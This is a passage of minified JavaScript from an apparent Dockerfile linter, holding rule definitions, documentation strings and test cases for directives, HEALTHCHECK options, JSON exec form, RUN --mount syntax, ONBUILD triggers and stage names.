`},check({model:n,report:e}){for(let t of n.instructions){let s;if(t.keyword==="ARG")s=Ye(n,t).pairs.map(a=>st(a.key,n.escape)).filter(Boolean);else if(t.keyword==="FROM"&&t.stage){let a=Te(n,t.stage).name;s=a?[a.toLowerCase()]:[]}else continue;if(s.length===0)continue;let i=f1(n,t);if(i===void 0)continue;let r=i.split(" ")[0];if(s.includes(r))continue;let o=s.length>1?"<arg_key>":s[0];e({message:`Comment for ${t.keyword} should follow the format: \`# ${o} <description>\``,range:t.range})}},tests:[{name:"BuildKit's example",input:`# check=experimental=InvalidDefinitionDescription
# bar this is the bar
ARG foo=bar
# BasE this is the BasE image
FROM scratch AS base
# definitely a bad comment
ARG version=latest
# definitely a bad comment
ARG foo=baz bar=qux baz=quux
`,expect:[{line:3,message:"Comment for ARG should follow the format: `# foo <description>`"},{line:5,message:"`# base <description>`"},{line:7,message:"`# version <description>`"},{line:9,message:"`# <arg_key> <description>`"}]},{name:"good descriptions and separated comments",input:`# foo this is the foo
ARG foo=bar

# base this is the base image
FROM scratch AS base

# not a description

ARG version=latest
# baz this is the baz
ARG foo=baz bar=qux baz=quux
# a note
#
ARG bit=bat
# comment for something other than ARG or FROM
COPY Dockerfile .
`,expect:[]},{name:"FROM without a stage name",input:`# the base
FROM scratch
`,expect:[]}]},sm=h1;var im="(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9])",m1=`${im}(?:\\.${im})*(?::[0-9]+)?`,rm="[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*",g1=new RegExp(`^(?:${m1}/)?${rm}(?:/${rm})*(?::[\\w][\\w.-]{0,127})?(?:@[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,})?$`);function om(n){return g1.test(n)}var y1={id:"InvalidDirective",language:"dockerfile",severity:"error",docs:{summary:"A parser directive (`# syntax=`, `# escape=`, `# check=`) is invalid, repeated, or in a place where it is ignored.",why:"`# syntax=` and `# escape=` are read only from the very first lines, before any blank line, comment or instruction; later they are plain comments and silently do nothing. `escape` accepts only `\\` or a backtick, each directive may appear once, and `syntax` must be an image reference or the build cannot start.",bad:`# escape=^
# syntax=docker/dockerfile:1
# syntax=docker/dockerfile:1.7
FROM python:3.12-slim
`,good:`# syntax=docker/dockerfile:1
# escape=\`
FROM python:3.12-slim
`},check({model:n,report:e}){let t=pl(n),s=new Set;for(let o of t){let a=ir(o.line,o.valueStart,o.valueEnd);if(s.has(o.name)){let c={start:{line:o.line,character:0},end:{line:o.line+1,character:0}};e({message:`Only one ${o.name} parser directive can be used`,range:ir(o.line,0,o.valueEnd),fixes:[{title:`Remove the repeated ${o.name} directive`,edits:[{range:c,newText:""}]}]});continue}if(s.add(o.name),o.name==="escape"&&o.value!=="\\"&&o.value!=="`"){let c=[{title:"Use a backtick",preferred:o.value.includes("`"),edits:[{range:a,newText:"`"}]},{title:"Use a backslash",edits:[{range:a,newText:"\\"}]}];o.value.includes("`")||c.reverse(),e({message:`Invalid escape token \`${o.value}\`: the escape character must be \\ or \``,range:a,fixes:c})}else if(o.name==="syntax"&&!om(o.value)){let c=o.value.trim().toLowerCase(),l=om(c)?[{title:`Use ${c}`,preferred:!0,edits:[{range:a,newText:c}]}]:void 0;e({message:`# syntax= must name a frontend image such as docker/dockerfile:1, not \`${o.value}\``,range:a,fixes:l})}}let i=t.length?t[t.length-1].line:-1,r=new Set;for(let o of n.comments)r.add(o.getRange().start.line);for(let o of n.directives)r.add(o.getRange().start.line);for(let o of[...r].sort((a,c)=>a-c)){if(o<=i)continue;let a=n.lines.lineText(o),c=ul(a.charCodeAt(0)===65279?a.slice(1):a);!c||!ll.has(c.name)||c.name==="check"||e({message:`This \`# ${c.name}=\` is an ordinary comment and is ignored: parser directives must come first in the file, before any blank line, other comment or instruction`,range:ir(o,0,a.length),severity:"warning"})}},tests:[{name:"invalid escape",input:`# escape=^
FROM alpine
`,expect:[{line:1,col:10,message:"escape"}],fixed:`# escape=\\
FROM alpine
`},{name:"duplicate directive",input:`# syntax=docker/dockerfile:1
# syntax=docker/dockerfile:1.7
FROM alpine
`,expect:[{line:2,col:1,message:"Only one syntax"}],fixed:`# syntax=docker/dockerfile:1
FROM alpine
`},{name:"duplicate in other case",input:`# escape=\`
# ESCAPE=\`
FROM alpine
`,expect:[{line:2,message:"Only one escape"}]},{name:"syntax not a reference",input:`# syntax=Docker/Dockerfile:1
FROM alpine
`,expect:[{line:1,col:10}],fixed:`# syntax=docker/dockerfile:1
FROM alpine
`},{name:"syntax with spaces",input:`# syntax=docker dockerfile
FROM alpine
`,expect:[{line:1}]},{name:"misplaced after a comment",input:`# My image
# syntax=docker/dockerfile:1
FROM alpine
`,expect:[{line:2,severity:"warning",message:"ignored"}]},{name:"misplaced after a blank line",input:`
# escape=\`
FROM alpine
`,expect:[{line:2,severity:"warning"}]},{name:"misplaced after FROM",input:`FROM alpine
# syntax=docker/dockerfile:1
`,expect:[{line:2,severity:"warning"}]},{name:"check before an instruction is honoured",input:`
FROM alpine
# check=skip=JSONArgsRecommended
CMD echo
`,expect:[]},{name:"valid directives",input:`# syntax=docker.io/docker/dockerfile:1.7-labs@sha256:38387523653efa0039f8e1c89bb74a30504e76ee9f565e25c9a09841f9427b05
#escape=\\
#  check = skip=JSONArgsRecommended;error=true
FROM alpine
`,expect:[]},{name:"registry with port",input:`# syntax=localhost:5000/my/frontend:latest
FROM alpine
`,expect:[]},{name:"plain key=value comments are comments",input:`# foo=bar
# escape=\`
FROM alpine
# version=1.2
`,expect:[{line:2,severity:"warning"}]},{name:"ordinary comments",input:`# Build with: docker build -t x .
FROM alpine
# key=value in a comment
RUN echo
`,expect:[]},{name:"BOM",input:`\uFEFF# syntax=docker/dockerfile:1
FROM alpine
`,expect:[]},{name:"CRLF",input:`# syntax=docker/dockerfile:1\r
# escape=\`\r
FROM alpine\r
`,expect:[]},{name:"empty file",input:"",expect:[]},{name:"only comments",input:`# syntax=docker/dockerfile:1
`,expect:[]}]},am=y1;var b1=new Set(["interval","timeout","start-period","start-interval"]),w1={id:"InvalidHealthcheckOption",language:"dockerfile",severity:"error",docs:{summary:"A HEALTHCHECK duration or retry count is not something the builder accepts.",why:"Durations use Go syntax with a unit (`30s`, `1m30s`, `500ms`, `1h`) and, unless 0, must be at least 1ms; `--retries` is a whole number. `--interval=30` (no unit) or `--retries=three` stops `docker build`.",bad:`FROM nginx:1.27
HEALTHCHECK --interval=30 --retries=three CMD curl -f http://localhost/ || exit 1
`,good:`FROM nginx:1.27
HEALTHCHECK --interval=30s --retries=3 CMD curl -f http://localhost/ || exit 1
`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="HEALTHCHECK")continue;let s=re(n,t);if(s.words[0]?.raw.toUpperCase()!=="NONE")for(let i of s.flags){let r=i.value;if(r===void 0||r===""||r.includes("$"))continue;let o=X(n,s.line,i.nameEnd+1,i.end);if(b1.has(i.name)){let a=Tf(r);if("error"in a){let c=/^\d+$/.test(r)?[{title:`Use ${r}s`,preferred:!0,edits:[{range:o,newText:`${r}s`}]}]:void 0;e({message:`--${i.name}: ${a.error} (use a unit, e.g. 30s, 1m30s, 500ms)`,range:o,fixes:c})}else a.ns!==0&&a.ns<1e6&&e({message:`--${i.name}=${r} cannot be less than 1ms`,range:o})}else if(i.name==="retries")if(!/^[+-]?\d+$/.test(r))e({message:`--retries must be a whole number, not \`${r}\``,range:o});else{let a=Number(r);a<0?e({message:`--retries cannot be negative (${r})`,range:o}):a>2147483647?e({message:`--retries=${r} is out of range`,range:o}):a===0&&e({message:'--retries=0 means "use the default" (3), and older builders reject it',range:o,severity:"warning"})}}}},tests:[{name:"duration without unit",input:`FROM alpine
HEALTHCHECK --interval=30 CMD true
`,expect:[{line:2,col:24,message:"missing unit"}],fixed:`FROM alpine
HEALTHCHECK --interval=30s CMD true
`},{name:"unknown unit",input:`FROM alpine
HEALTHCHECK --timeout=5sec CMD true
`,expect:[{line:2,message:"unknown unit"}]},{name:"garbage",input:`FROM alpine
HEALTHCHECK --start-period=soon CMD true
`,expect:[{line:2,message:"invalid duration"}]},{name:"too small",input:`FROM alpine
HEALTHCHECK --start-interval=10us CMD true
`,expect:[{line:2,message:"1ms"}]},{name:"negative",input:`FROM alpine
HEALTHCHECK --interval=-5s CMD true
`,expect:[{line:2,message:"1ms"}]},{name:"retries word",input:`FROM alpine
HEALTHCHECK --retries=three CMD true
`,expect:[{line:2,col:23,message:"whole number"}]},{name:"retries negative",input:`FROM alpine
HEALTHCHECK --retries=-1 CMD true
`,expect:[{line:2,message:"negative"}]},{name:"retries zero",input:`FROM alpine
HEALTHCHECK --retries=0 CMD true
`,expect:[{line:2,severity:"warning"}]},{name:"valid durations",input:`FROM alpine
HEALTHCHECK --interval=1m30s --timeout=500ms --start-period=1h --start-interval=0 --retries=5 CMD true
HEALTHCHECK --interval=1.5s --timeout=0s CMD ["true"]
`,expect:[]},{name:"variables",input:`FROM alpine
ARG I=30s
HEALTHCHECK --interval=$I --retries=\${R} CMD true
`,expect:[]},{name:"NONE",input:`FROM alpine
HEALTHCHECK NONE
`,expect:[]},{name:"continuation",input:`FROM alpine
HEALTHCHECK --interval=5m \\
    --timeout=3 \\
    CMD curl -f http://localhost/ || exit 1
`,expect:[{line:3,col:15}]}]},cm=w1;var v1=new Set(["RUN","CMD","ENTRYPOINT","SHELL","COPY","ADD","VOLUME","HEALTHCHECK"]),k1=new Set(["COPY","ADD","VOLUME"]);function x1(n){try{let e=JSON.parse(n);return Array.isArray(e)&&e.every(t=>typeof t=="string")}catch{return!1}}function R1(n){return/^\[\s*(?:"(?:\\.|[^"\\])*"|'[^']*'|"[^"]*$)\s*(?:[,\]"']|$)/.test(n)}function O1(n){let e="",t=0;for(;t<n.length;){let i=n[t];if(i==='"'){let r=t+1;for(;r<n.length&&n[r]!=='"';)r+=n[r]==="\\"?2:1;if(r>=n.length)return;let o=n.slice(t+1,r),a=/\\(?!["\\/bfnrt]|u[0-9a-fA-F]{4})/.test(o.replace(/\\\\/g,""));e+='"'+(a?o.replace(/\\(["\\])|\\/g,(c,l)=>l?c:"\\\\"):o)+'"',t=r+1;continue}if(i==="'"){let r=n.indexOf("'",t+1);if(r<0)return;e+=JSON.stringify(n.slice(t+1,r)),t=r+1;continue}e+=i,t++}let s=e.trimEnd();for(let i of[e,s+"]",s.replace(/,\s*\]$/,"]"),s.replace(/,\s*$/,"")+"]"])if(x1(i))return i}var S1={id:"InvalidJSONArray",language:"dockerfile",severity:"warning",docs:{summary:"An exec-form (JSON array) argument is not valid JSON, so the builder silently treats it as shell form.",why:"Only a valid JSON array of double-quoted strings is the exec form. `CMD ['gunicorn', 'app:app']`, a missing `]` or an unescaped Windows path (`\"C:\\app\"`) make the builder run `/bin/sh -c \"['gunicorn', \u2026\"` instead, which fails when the container starts. SHELL has no fallback and the build fails; an array of non-strings is always rejected.",bad:`FROM python:3.12-slim
CMD ['gunicorn', '--bind', '0.0.0.0:8000', 'app:app']
`,good:`FROM python:3.12-slim
CMD ["gunicorn", "--bind", "0.0.0.0:8000", "app:app"]
`},check({model:n,report:e}){for(let t of n.instructions){if(!v1.has(t.keyword))continue;let s=Ne(n,t);if(s.kind==="shell"||s.kind==="json")continue;let i=re(n,t),r=X(n,i.line,s.start,s.end);if(s.kind==="notStrings"){e({message:"When using JSON array syntax, arrays must be comprised of strings only",range:r,severity:"error"});continue}let o=i.line.text.slice(s.start,s.end);if(!R1(o))continue;let a=O1(o),c=a&&i.contiguous?[{title:"Make it a valid JSON array",preferred:!0,edits:[{range:r,newText:a}]}]:void 0,l=o.includes("'")?"JSON strings need double quotes":s.error.replace(/ in JSON at position \d+.*$/,""),u;t.keyword==="SHELL"?u=`SHELL requires a valid JSON array (${l})`:k1.has(t.keyword)?u=`Not a valid JSON array (${l}): ${t.keyword} splits it on whitespace instead`:u=`Not a valid JSON array (${l}): ${t.keyword} runs it as a shell command instead`,e({message:u,range:r,fixes:c,severity:t.keyword==="SHELL"?"error":void 0})}},tests:[{name:"single quotes",input:`FROM python:3.12
CMD ['python', 'app.py']
`,expect:[{line:2,col:5,message:"double quotes"}],fixed:`FROM python:3.12
CMD ["python", "app.py"]
`},{name:"unterminated",input:`FROM alpine
ENTRYPOINT ["sh", "-c"
`,expect:[{line:2,col:12}],fixed:`FROM alpine
ENTRYPOINT ["sh", "-c"]
`},{name:"trailing comma",input:`FROM alpine
RUN ["echo", "hi",]
`,expect:[{line:2}],fixed:`FROM alpine
RUN ["echo", "hi"]
`},{name:"Windows path",input:`# escape=\`
FROM mcr.microsoft.com/windows/nanoserver:ltsc2022
CMD ["C:\\app\\run.exe"]
`,expect:[{line:3}],fixed:`# escape=\`
FROM mcr.microsoft.com/windows/nanoserver:ltsc2022
CMD ["C:\\\\app\\\\run.exe"]
`},{name:"SHELL single quotes is an error",input:`FROM alpine
SHELL ['/bin/bash', '-c']
`,expect:[{line:2,severity:"error"}],fixed:`FROM alpine
SHELL ["/bin/bash", "-c"]
`},{name:"COPY split",input:`FROM alpine
COPY ['a b', '/c/']
`,expect:[{line:2,message:"whitespace"}]},{name:"HEALTHCHECK CMD",input:`FROM alpine
HEALTHCHECK CMD ['curl', '-f', 'x']
`,expect:[{line:2,col:17}]},{name:"non-strings",input:`FROM alpine
CMD ["sleep", 10]
`,expect:[{line:2,severity:"error",message:"strings only"}]},{name:"missing comma",input:`FROM alpine
CMD ["a" "b"]
`,expect:[{line:2}]},{name:"shell test bracket",input:`FROM alpine
RUN [ -f /etc/os-release ] && cat /etc/os-release
RUN [ "$A" = "b" ] || exit 1
`,expect:[]},{name:"valid forms",input:`FROM alpine
CMD ["a", "b"]
ENTRYPOINT []
RUN [ "echo" , "x" ]
VOLUME ["/data"]
SHELL ["sh", "-c"]
`,expect:[]},{name:"JSON over continuation",input:`FROM alpine
CMD ["a", \\
     "b"]
`,expect:[]},{name:"unterminated over continuation has no fix",input:`FROM alpine
CMD ['a', \\
     'b']
`,expect:[{line:2}],fixed:`FROM alpine
CMD ['a', \\
     'b']
`},{name:"shell form",input:`FROM alpine
CMD echo [x]
`,expect:[]},{name:"heredoc",input:`FROM alpine
RUN <<EOF
["not", json
EOF
`,expect:[]}]},lm=S1;var _l=["bind","cache","tmpfs","secret","ssh"],um=["shared","private","locked"],pm=["type","from","source","src","target","dst","destination","readonly","ro","readwrite","rw","required","size","id","sharing","mode","uid","gid","env"],M1=/^(1|t|T|TRUE|true|True|0|f|F|FALSE|false|False)$/;function A1(n){let e=[],t=0;for(;;){let s=t,i="";if(n[t]==='"'){for(t++;;){if(t>=n.length)return'extraneous or missing " in quoted-field';if(n[t]==='"'){if(n[t+1]==='"'){i+='"',t+=2;continue}t++;break}i+=n[t++]}if(t<n.length&&n[t]!==",")return'extraneous or missing " in quoted-field'}else for(;t<n.length&&n[t]!==",";){if(n[t]==='"')return'bare " in non-quoted-field';i+=n[t++]}if(e.push({text:i,start:s,end:t}),t>=n.length)return e;t++}}var N1={id:"InvalidMount",language:"dockerfile",severity:"error",docs:{summary:"A `RUN --mount` has an unknown type or option, or an option its type does not take.",why:"`--mount` is a comma-separated list: `type=bind|cache|tmpfs|secret|ssh` plus options per type (`target`, `source`, `from`, `id`, `sharing=shared|private|locked`, `mode`, `uid`, `gid`, `required`, `size`). The builder rejects unknown keys and options the type does not take; a cache mount without `target` lands on the working directory.",bad:`FROM python:3.12-slim
RUN --mount=type=cache,taget=/root/.cache/pip pip install flask
`,good:`FROM python:3.12-slim
RUN --mount=type=cache,target=/root/.cache/pip pip install flask
`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="RUN")continue;let s=re(n,t);for(let i of s.flags){if(i.name!=="mount"||i.value===void 0)continue;let r=X(n,s.line,i.start,i.end),a=s.line.text.slice(i.nameEnd+1,i.end)===i.value,c=(g,w)=>a?X(n,s.line,i.nameEnd+1+g,i.nameEnd+1+w):r,l=A1(i.value);if(typeof l=="string"){e({message:`Invalid --mount: ${l}`,range:r});continue}let u="bind",p=!0;for(let g of l){let w=g.text.indexOf("=");if(w>=0&&g.text.slice(0,w).toLowerCase()==="type"){let v=g.text.slice(w+1).toLowerCase();u=v,p=!v.includes("$")}}let d=new Map,f=!1,h=(g,w,v)=>{f=!0,e({message:`Invalid --mount: ${g}`,range:w,fixes:v})};for(let g of l){let w=g.text.indexOf("="),v=(w>=0?g.text.slice(0,w):g.text).toLowerCase(),O=w>=0?g.text.slice(w+1):void 0,S=c(g.start,g.start+(w>=0?w:g.text.length)),A=c(g.start+w+1,g.end);if(!pm.includes(v)){if(!g.text)continue;let E=He(v,pm);h(`unexpected key '${v}'${E?` (did you mean ${E}?)`:""}`,S,E&&a?[{title:`Change to ${E}`,preferred:!0,edits:[{range:S,newText:E}]}]:void 0);continue}if(d.set(v,O??""),O===void 0){if(["readonly","ro","readwrite","rw"].includes(v))continue;if(v==="required"){p&&u!=="secret"&&u!=="ssh"&&h(`'required' is only for secret and ssh mounts, not ${u}`,S);continue}h(`'${g.text}' must be a key=value pair`,S);continue}if(v==="from"&&O.includes("$")){h("'from' doesn't support variable expansion, define an alias stage instead",A);continue}if(p&&(v==="required"&&u!=="secret"&&u!=="ssh"?h(`'required' is only for secret and ssh mounts, not ${u}`,S):v==="size"&&u!=="tmpfs"?h(`'size' is only for tmpfs mounts, not ${u}`,S):v==="sharing"&&u!=="cache"?h(`'sharing' is only for cache mounts, not ${u}`,S):(v==="mode"||v==="uid"||v==="gid")&&!["secret","ssh","cache"].includes(u)?h(`'${v}' is not allowed for ${u} mounts`,S):v==="env"&&u!=="secret"?h(`'env' is only for secret mounts, not ${u}`,S):v==="from"&&u==="secret"&&h("a secret mount has no from",S)),O.includes("$"))continue;let C=O.toLowerCase();switch(v){case"type":if(!_l.includes(C)){let E=He(C,_l);h(`unsupported mount type "${O}"${E?` (did you mean ${E}?)`:""}; use ${_l.join(", ")}`,A,E&&a?[{title:`Change to ${E}`,preferred:!0,edits:[{range:A,newText:E}]}]:void 0),p=!1}break;case"sharing":um.includes(C)||h(`unsupported sharing value "${O}"; use ${um.join(", ")}`,A);break;case"readonly":case"ro":case"readwrite":case"rw":case"required":M1.test(O)||h(`invalid value for ${v}: ${O}`,A);break;case"mode":/^[0-7]+$/.test(O)||h(`invalid value ${O} for mode (octal, e.g. 0600)`,A);break;case"uid":case"gid":/^\d+$/.test(O)||h(`invalid value ${O} for ${v} (a number)`,A);break;case"size":/^\d+(\.\d+)?\s*([kmgtp]i?b?|b)?$/i.test(O)||h(`invalid value for size: ${O}`,A);break}}if(f||!p)continue;let m=d.get("target")??d.get("dst")??d.get("destination");if(u==="secret"){let g=d.get("source")??d.get("src");!g&&!m&&!d.get("id")&&!d.get("env")?h("a secret mount needs id= (or target=)",r):g&&d.get("id")&&h("a secret mount can't set both source and id",r)}else(u==="cache"||u==="tmpfs")&&!m&&e({message:`Invalid --mount: a ${u} mount without target= is mounted over the working directory`,range:r,severity:"warning"})}}},tests:[{name:"misspelt key",input:`FROM alpine
RUN --mount=type=cache,taget=/root/.cache echo
`,expect:[{line:2,col:24,message:"did you mean target?"}],fixed:`FROM alpine
RUN --mount=type=cache,target=/root/.cache echo
`},{name:"unknown type",input:`FROM alpine
RUN --mount=type=cahce,target=/x echo
`,expect:[{line:2,col:18,message:"did you mean cache?"}],fixed:`FROM alpine
RUN --mount=type=cache,target=/x echo
`},{name:"cache without target",input:`FROM alpine
RUN --mount=type=cache,id=pip echo
`,expect:[{line:2,message:"target",severity:"warning"}]},{name:"bind without target mounts over WORKDIR",input:`FROM alpine
WORKDIR /work
RUN --mount=from=0 tar czf /out.tgz .
RUN --mount=source=. ls
`,expect:[]},{name:"sharing value",input:`FROM alpine
RUN --mount=type=cache,target=/x,sharing=exclusive echo
`,expect:[{line:2,message:"sharing value"}]},{name:"sharing on bind",input:`FROM alpine
RUN --mount=type=bind,target=/x,sharing=locked echo
`,expect:[{line:2,message:"only for cache"}]},{name:"required on cache",input:`FROM alpine
RUN --mount=type=cache,target=/x,required echo
`,expect:[{line:2,message:"required"}]},{name:"mode on bind",input:`FROM alpine
RUN --mount=type=bind,target=/x,mode=0644 echo
`,expect:[{line:2,message:"mode"}]},{name:"mode not octal",input:`FROM alpine
RUN --mount=type=secret,id=x,mode=0999 echo
`,expect:[{line:2,message:"octal"}]},{name:"size on cache",input:`FROM alpine
RUN --mount=type=cache,target=/x,size=1g echo
`,expect:[{line:2,message:"size"}]},{name:"secret without id",input:`FROM alpine
RUN --mount=type=secret,required echo
`,expect:[{line:2,message:"needs id"}]},{name:"secret with from",input:`FROM alpine
RUN --mount=type=secret,id=a,from=b echo
`,expect:[{line:2,message:"no from"}]},{name:"bare key",input:`FROM alpine
RUN --mount=type=bind,target=/x,cached echo
`,expect:[{line:2,message:"unexpected key"}]},{name:"from with variable",input:`FROM alpine
ARG S=x
RUN --mount=from=$S,target=/x echo
`,expect:[{line:3,message:"variable expansion"}]},{name:"bad bool",input:`FROM alpine
RUN --mount=type=bind,target=/x,rw=yes echo
`,expect:[{line:2,message:"invalid value for rw"}]},{name:"bare quote",input:`FROM alpine
RUN --mount='type=bind,target=/x"y' echo
`,expect:[{line:2,message:'bare "'}]},{name:"valid mounts",input:`FROM alpine AS deps
FROM alpine
RUN --mount=type=cache,target=/root/.cache/pip,sharing=locked,id=pip,mode=0755,uid=1000,gid=1000 echo
RUN --mount=type=bind,from=deps,source=/out,target=/in,rw echo
RUN --mount=type=bind,src=.,dst=/src,readonly=false echo
RUN --mount=type=tmpfs,target=/tmp,size=512m echo
RUN --mount=type=secret,id=npmrc,target=/root/.npmrc,required=true,mode=0400 echo
RUN --mount=type=secret,id=token,env=TOKEN echo
RUN --mount=type=ssh echo
RUN --mount=type=ssh,id=default,required echo
RUN --mount=type=cache,target=/x,from=deps,source=/cache echo
RUN --mount=TYPE=CACHE,TARGET=/x echo
`,expect:[]},{name:"variables",input:`FROM alpine
ARG T=/x
RUN --mount=type=cache,target=$T,sharing=\${SHARE} echo
`,expect:[]},{name:"quoted csv field",input:`FROM alpine
RUN --mount="type=bind,target=/a b" echo
`,expect:[]},{name:"no mount",input:`FROM alpine
RUN echo --mount=type=foo
`,expect:[]},{name:"heredoc",input:`FROM alpine
RUN --mount=type=cache,target=/x <<EOF
echo
EOF
`,expect:[]}]},dm=N1;var E1={id:"InvalidOnbuild",language:"dockerfile",severity:"error",docs:{summary:"An ONBUILD trigger is ONBUILD, FROM or MAINTAINER (rejected), or not an instruction at all.",why:"`ONBUILD ONBUILD`, `ONBUILD FROM` and `ONBUILD MAINTAINER` stop `docker build`. A trigger that is not an instruction builds fine here but breaks every image built FROM this one.",bad:`FROM python:3.12-slim
ONBUILD ONBUILD COPY requirements.txt /app/
`,good:`FROM python:3.12-slim
ONBUILD COPY requirements.txt /app/
`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="ONBUILD")continue;let s=re(n,t),i=s.words[0];if(!i)continue;let r=i.raw.toUpperCase(),o=X(n,s.line,i.start,i.end);if(r==="ONBUILD"){let a=s.words[1],c=a?[{title:"Remove the repeated ONBUILD",preferred:!0,edits:[{range:X(n,s.line,i.start,a.start),newText:""}]}]:void 0;e({message:"Chaining ONBUILD via `ONBUILD ONBUILD` isn't allowed",range:o,fixes:c})}else if(r==="FROM"||r==="MAINTAINER")e({message:`${r} isn't allowed as an ONBUILD trigger`,range:o});else if(!Rt(r)){let a=/^[A-Za-z]+$/.test(i.raw)?He(r,zs):void 0;e({message:`Unknown ONBUILD trigger ${r}${a?` (did you mean ${a}?)`:""}: builds FROM this image will fail`,range:o,severity:"warning",fixes:a?[{title:`Change to ${a}`,preferred:!0,edits:[{range:o,newText:a}]}]:void 0})}}},tests:[{name:"ONBUILD ONBUILD",input:`FROM alpine
ONBUILD ONBUILD RUN echo
`,expect:[{line:2,col:9,message:"Chaining"}],fixed:`FROM alpine
ONBUILD RUN echo
`},{name:"ONBUILD FROM",input:`FROM alpine
ONBUILD FROM alpine
`,expect:[{line:2,message:"FROM isn't allowed"}]},{name:"ONBUILD maintainer",input:`FROM alpine
onbuild maintainer me
`,expect:[{line:2,message:"MAINTAINER"}]},{name:"unknown trigger",input:`FROM alpine
ONBUILD COPPY . /app
`,expect:[{line:2,severity:"warning",message:"did you mean COPY?"}],fixed:`FROM alpine
ONBUILD COPY . /app
`},{name:"valid triggers",input:`FROM alpine
ONBUILD COPY --from=builder . /app
ONBUILD RUN <<EOF
echo hi
EOF
ONBUILD run echo
ONBUILD \\
  ADD . /src
`,expect:[]},{name:"empty ONBUILD",input:`FROM alpine
ONBUILD
`,expect:[]}]},fm=E1;var hm=/^[a-z][a-z0-9-_.]*$/;function _1(n){let e=n.toLowerCase().replace(/[^a-z0-9-_.]+/g,"-").replace(/^-+|-+$/g,"");return/^[a-z]/.test(e)||(e="stage-"+e),hm.test(e)?e:"stage"}var $1={id:"InvalidStageName",language:"dockerfile",severity:"error",docs:{summary:"A stage name after `AS` does not match the builder's grammar.",why:"Stage names must start with a letter and contain only letters, digits, `-`, `_` and `.` (`invalid name for build stage`). Names cannot use variables and cannot be just a number, which would clash with stage indexes.",bad:`FROM node:22 AS 1st-build
RUN npm ci
FROM nginx:1.27
COPY --from=1st-build /app/dist /usr/share/nginx/html
`,good:`FROM node:22 AS stage-1st-build
RUN npm ci
FROM nginx:1.27
COPY --from=stage-1st-build /app/dist /usr/share/nginx/html
`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="FROM")continue;let s=re(n,t);if(s.words.length!==3||s.words[1].raw.toLowerCase()!=="as")continue;let i=s.words[2],r=i.raw;if(hm.test(r.toLowerCase()))continue;let o=X(n,s.line,i.start,i.end),a=[],c=_1(r),l=n.stages.some(u=>u.name?.toLowerCase()===c);if(!r.includes("$")&&!l){a.push({range:o,newText:c});for(let u of n.instructions){if(u.index<=t.index)continue;let p=re(n,u);if(u.keyword==="FROM"&&p.words[0]?.raw.toLowerCase()===r.toLowerCase())a.push({range:X(n,p.line,p.words[0].start,p.words[0].end),newText:c});else if(u.keyword==="COPY"){let d=p.flags.find(f=>f.name==="from"&&f.value?.toLowerCase()===r.toLowerCase());d&&a.push({range:X(n,p.line,d.nameEnd+1,d.end),newText:c})}}}e({message:`Invalid name for build stage: "${r}", name can't start with a number or contain symbols`,range:o,fixes:a.length?[{title:`Rename the stage to ${c}`,preferred:!0,edits:a}]:void 0})}},tests:[{name:"starts with a digit, references renamed",input:`FROM alpine AS 1build
RUN echo
FROM alpine
COPY --from=1build /a /a
FROM 1build AS again
`,expect:[{line:1,col:16,message:"1build"}],fixed:`FROM alpine AS stage-1build
RUN echo
FROM alpine
COPY --from=stage-1build /a /a
FROM stage-1build AS again
`},{name:"symbols",input:`FROM alpine AS my@stage
`,expect:[{line:1}],fixed:`FROM alpine AS my-stage
`},{name:"variable",input:`ARG N=x
FROM alpine AS \${N}
`,expect:[{line:2,message:"${N}"}]},{name:"number",input:`FROM alpine AS 0
`,expect:[{line:1}]},{name:"valid names any case",input:`FROM alpine AS Build_1.x-y
FROM alpine as b
`,expect:[]},{name:"no stage name",input:`FROM alpine
FROM alpine AS
`,expect:[]},{name:"over continuation",input:`FROM alpine \\
  AS build
`,expect:[]}]},mm=$1;function C1(n,e){return Bt(n,e,"SHELL",t=>t.keyword==="SHELL")!==void 0}function gm(n){return n.instructions.some(e=>e.keyword==="CMD")}function D1(n){return n.memoize("JSONArgs:cmdBelow",()=>{let e=new Array(n.stages.length).fill(!1);for(let t=n.stages.length-1;t>=0;t--){let s=n.stages[t],i=n.parentStage(s);i&&i.index<s.index&&(e[s.index]||gm(s))&&(e[i.index]=!0)}return e})}function F1(n){return n.memoize("JSONArgs:entrypoints",()=>{let e=new Array(n.stages.length);for(let t of n.stages){let s=t.instructions.filter(r=>r.keyword==="ENTRYPOINT"),i=n.parentStage(t);s.length?e[t.index]=s[s.length-1]:i&&i.index<t.index?e[t.index]=e[i.index]:e[t.index]=t.imageName==="scratch"?null:void 0}return e})}function T1(n,e){let t=e.stage;if(!t)return!1;if(e.keyword==="ENTRYPOINT")return!gm(t)&&!D1(n)[t.index];let s=F1(n)[t.index];if(s===null)return!0;if(s===void 0)return!1;let i=Ne(n,s);return i.kind==="shell"||i.kind==="json"&&i.elements.length===0}var L1=new Set([".",":","[[","{","!","alias","bg","break","builtin","case","cd","command","continue","declare","eval","exit","export","fg","for","function","getopts","hash","if","jobs","local","read","readonly","return","select","set","shift","source","time","times","trap","type","typeset","ulimit","umask","unalias","unset","until","wait","while"]);function I1(n){if(/[^\S \t\n]/.test(n))return;let e=Qn(n);if(e){if(e[0]==="exec"){if(e.length<2||e[1].startsWith("-"))return;e=e.slice(1)}return L1.has(e[0])?void 0:e}}var P1={id:"JSONArgsRecommended",language:"dockerfile",severity:"warning",compat:{buildkit:"JSONArgsRecommended",hadolint:"DL3025"},docs:{summary:"CMD and ENTRYPOINT should use the JSON (exec) form (unless the stage sets a custom SHELL).",why:"In shell form the command runs as a child of `/bin/sh -c`, which does not pass on signals: `docker stop` waits for its timeout and then kills the process, so a gunicorn or Flask server never shuts down cleanly. The exec form runs the process directly as PID 1. The quick fix is offered only where the exec form runs the same command: no variables, globs, pipes, redirections or shell builtins; for ENTRYPOINT, no CMD in the stage or a stage built on it (an exec-form ENTRYPOINT takes CMD as arguments, a shell-form one ignores it); for CMD, an ENTRYPOINT known to be absent, empty or shell form (a base image's ENTRYPOINT is unknown, and an exec-form one would get the words instead of `/bin/sh -c \u2026`).",bad:`FROM python:3.12-slim
CMD gunicorn --bind 0.0.0.0:8000 app:app
`,good:`FROM python:3.12-slim
